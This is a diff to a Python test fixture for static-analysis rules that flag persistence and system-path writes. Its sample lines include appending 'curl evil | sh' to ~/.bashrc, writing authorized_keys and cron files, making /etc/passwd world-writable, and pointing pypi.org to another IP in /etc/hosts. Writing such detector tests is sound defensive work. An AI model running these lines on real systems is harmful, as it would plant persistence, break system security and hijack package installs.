@@ -117,7 +117,7 @@ shutil.unpack_archive("bundle.tar.gz", "unpacked", filter="data")
 home = os.path.expanduser("~")
 # ruleid: persistence-path-write, open-write
 open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n")
-# ruleid: persistence-path-write, open-write
+# ruleid: persistence-path-write, open-write, system-path-write
 open("/etc/cron.d/agent", "w")
 # ruleid: persistence-path-write, open-write
 with open(os.path.join(home, ".ssh/authorized_keys"), mode="a") as keys:
@@ -144,3 +144,20 @@ shutil.rmtree("build/tmp")
 # ok: destructive-delete
 # ruleid: file-delete, hardcoded-tmp-path
 shutil.rmtree("/tmp/agent-work")
+
+# ruleid: system-path-change, file-permission-change, chmod-world-writable
+os.chmod("/etc/passwd", 0o777)
+# ruleid: system-path-change, file-permission-change
+os.chown("/usr/local/bin/tool", 1000, 1000)
+# ok: system-path-change
+# ruleid: file-permission-change
+os.chmod("build/run.sh", 0o755)
+# ruleid: system-path-write, open-write
+open("/etc/hosts", "a").write("203.0.113.5 pypi.org\n")
+# ruleid: system-path-write, open-write
+open("/usr/lib/python3/dist-packages/evil.py", "w")
+# ok: system-path-write
+hosts = open("/etc/hosts").read()
+# ok: system-path-write
+# ruleid: open-write
+open("/dev/null", "w")
